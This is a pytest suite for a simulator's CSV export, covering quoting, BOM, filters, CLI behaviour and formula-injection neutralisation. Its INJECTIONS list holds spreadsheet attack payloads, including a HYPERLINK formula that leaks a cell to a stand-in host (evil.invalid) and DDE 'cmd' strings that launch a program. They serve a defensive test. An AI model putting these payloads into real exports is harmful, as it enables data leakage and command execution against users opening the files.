"""CSV export: RFC 4180, BOM, formula-injection safety, flags and filters."""

from __future__ import annotations

import csv
import io
import stat
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest

from simulator.cli import main
from simulator.results.export_csv import cell_text, neutralize, write_csv
from simulator.results.table import Filters, select
from simulator.store.results_store import ResultStore
from tests.results_data import T0, cohort_store, play

INJECTIONS = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)


def _export(
    store: ResultStore,
    filters: Filters | None = None,
    *,
    transcripts: bool = False,
    bom: bool = False,
) -> str:
    out = io.StringIO(newline="")
    selection = select(store, filters or Filters(), with_turns=True)
    write_csv(out, selection, transcripts=transcripts, bom=bom)
    return out.getvalue()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture
def store(tmp_path: Path) -> Iterator[ResultStore]:
    with cohort_store(tmp_path / "r.db") as opened:
        yield opened


def test_neutralize_rules() -> None:
    for text in INJECTIONS:
        assert neutralize(text) == "'" + text
    for text in ("Alice", "'quoted", " =space first", "a=b", "", "中文"):
        assert neutralize(text) == text
    # plain numbers, also negative ones, are not formulas and stay as they are
    for text in ("-5", "-2.5", "+3", "1e5", "-0.5E-3", ".5"):
        assert neutralize(text) == text
    assert cell_text(-3) == "-3"
    assert cell_text(-2.5) == "-2.5"
    assert cell_text(True) == "true"
    assert cell_text(None) == ""


def test_injection_in_names_and_replies_is_neutralised(tmp_path: Path) -> None:
    with ResultStore.open(tmp_path / "r.db") as store:
        for i, bad in enumerate(INJECTIONS):
            trainee = f"t{i}" if bad[0] in "\t\r\n" else bad
            store.ensure_trainee(trainee, display_name=bad, cohort=bad)
            play(store, trainee, replies=(bad, "fine"))
        text = _export(store, transcripts=True)
    rows = _rows(text)
    assert len(rows) == len(INJECTIONS)
    for bad, row in zip(INJECTIONS, rows, strict=True):
        assert row["display_name"] == "'" + bad
        assert row["cohort"] == "'" + bad
        if bad[0] not in "\t\r\n":
            assert row["trainee_id"] == "'" + bad
        # the reply starts a line inside the transcript cell; the cell itself starts safely
        assert bad in row["transcript"]
        assert not row["transcript"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    with ResultStore.open(tmp_path / "r.db") as store:
        attempt = store.start_attempt(
            trainee_id="neg",
            scenario_id="s",
            scenario_version="1",
            scenario_hash="h",
            scenario_title="t",
            lang="en",
            seed=-42,
            mode="headless",
            started_at=T0,
        )
        store.ensure_trainee("neg", display_name="-17")
        text = _export(store)
    row = _rows(text)[0]
    assert row["attempt_id"] == str(attempt)
    assert row["seed"] == "-42"
    assert row["display_name"] == "-17"
    assert "'-42" not in text and "'-17" not in text


def test_rfc4180_shape(tmp_path: Path) -> None:
    with ResultStore.open(tmp_path / "r.db") as store:
        store.ensure_trainee("q", display_name='He said "hi", then\nleft')
        play(store, "q")
        text = _export(store)
    assert text.endswith("\r\n")
    lines = text.split("\r\n")
    assert lines[0].startswith("attempt_id,trainee_id,display_name,cohort,scenario_id")
    assert '"He said ""hi"", then\nleft"' in text
    assert not text.startswith("\ufeff")
    assert _rows(text)[0]["display_name"] == 'He said "hi", then\nleft'


def test_bom_for_excel(store: ResultStore) -> None:
    text = _export(store, bom=True)
    assert text.startswith("\ufeffattempt_id,")


def test_columns_flags_and_values(store: ResultStore) -> None:
    rows = _rows(_export(store))
    assert len(rows) == 6
    header = list(rows[0])
    for column in (
        "trainee_id",
        "cohort",
        "scenario_id",
        "scenario_version",
        "scenario_hash",
        "started_at",
        "finished_at",
        "duration_seconds",
        "status",
        "score_empathy",
        "score_restating",
        "score_avoided",
        "score_timeliness",
        "score_escalation",
        "overall",
        "passed",
        "attempt_no",
        "is_first",
        "is_best",
        "is_latest",
    ):
        assert column in header
    assert "transcript" not in header
    alice = [r for r in rows if r["trainee_id"] == "alice"]
    assert [r["attempt_no"] for r in alice] == ["1", "2", "3"]
    assert [r["is_first"] for r in alice] == ["true", "false", "false"]
    assert [r["is_best"] for r in alice] == ["false", "true", "false"]
    assert [r["is_latest"] for r in alice] == ["false", "false", "true"]
    assert alice[0]["started_at"] == "2026-03-02T09:00:00Z"
    assert alice[0]["duration_seconds"] == "210.0"
    assert alice[0]["score_empathy"] == "40"
    assert alice[1]["passed"] == "true"
    assert alice[0]["turns"] == "2"
    carol = next(r for r in rows if r["trainee_id"] == "carol")
    assert carol["status"] == "incomplete"
    assert carol["outcome"] == ""


def test_filters_keep_flags_of_the_whole_history(store: ResultStore) -> None:
    since = (T0 + timedelta(days=1)).date()
    rows = _rows(_export(store, Filters(since=since, trainee_id="alice")))
    assert [r["attempt_no"] for r in rows] == ["2", "3"]
    assert [r["is_first"] for r in rows] == ["false", "false"]
    assert [r["is_best"] for r in rows] == ["true", "false"]
    rows = _rows(_export(store, Filters(cohort="2026-04")))
    assert [r["trainee_id"] for r in rows] == ["carol"]
    rows = _rows(_export(store, Filters(scenario_id="vip-billing-en")))
    assert [r["trainee_id"] for r in rows] == ["bob"]
    rows = _rows(_export(store, Filters(until=date(2026, 3, 2))))
    assert len(rows) == 2


def test_cli_writes_a_private_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], store: ResultStore
) -> None:
    out = tmp_path / "scores.csv"
    code = main(["export", "--format", "csv", "--db", str(store.path), "--out", str(out), "--bom"])
    assert code == 0
    assert "Exported 6 attempts" in capsys.readouterr().err
    assert out.read_bytes().startswith(b"\xef\xbb\xbfattempt_id,")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_cli_to_stdout_with_filters(
    capfdbinary: pytest.CaptureFixture[bytes], store: ResultStore
) -> None:
    code = main(["export", "--db", str(store.path), "--trainee", "bob", "--since", "2026-03-01"])
    assert code == 0
    text = capfdbinary.readouterr().out.decode("utf-8")
    assert [r["trainee_id"] for r in _rows(text)] == ["bob", "bob"]


def test_cli_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--db", str(tmp_path / "missing.db")]) == 1
    assert "no results database here" in capsys.readouterr().err
    assert not (tmp_path / "missing.db").exists()
    with pytest.raises(SystemExit) as info:
        main(["export", "--since", "last tuesday"])
    assert info.value.code == 2
    assert "YYYY-MM-DD" in capsys.readouterr().err


def test_a_csv_file_opens_in_excel_with_chinese_names_by_default(
    tmp_path: Path, store: ResultStore
) -> None:
    out = tmp_path / "scores.csv"
    assert main(["export", "--format", "csv", "--db", str(store.path), "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfattempt_id,")
    plain = tmp_path / "plain.csv"
    args = ["export", "--format", "csv", "--db", str(store.path), "--out", str(plain)]
    assert main([*args, "--no-bom"]) == 0
    assert plain.read_bytes().startswith(b"attempt_id,")
    header = plain.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header[-1] == "hints_used"
